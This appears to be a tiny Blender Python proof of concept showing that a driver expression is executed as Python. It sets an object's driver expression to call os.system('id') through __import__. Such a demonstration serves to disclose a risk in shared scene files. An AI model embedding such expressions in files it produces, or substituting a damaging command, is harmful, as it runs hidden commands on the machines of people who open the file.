# why: a driver's expression is Python that runs by itself
import bpy
d = bpy.context.object.driver_add("location", 0).driver
d.expression = "__import__('os').system('id') or 0"
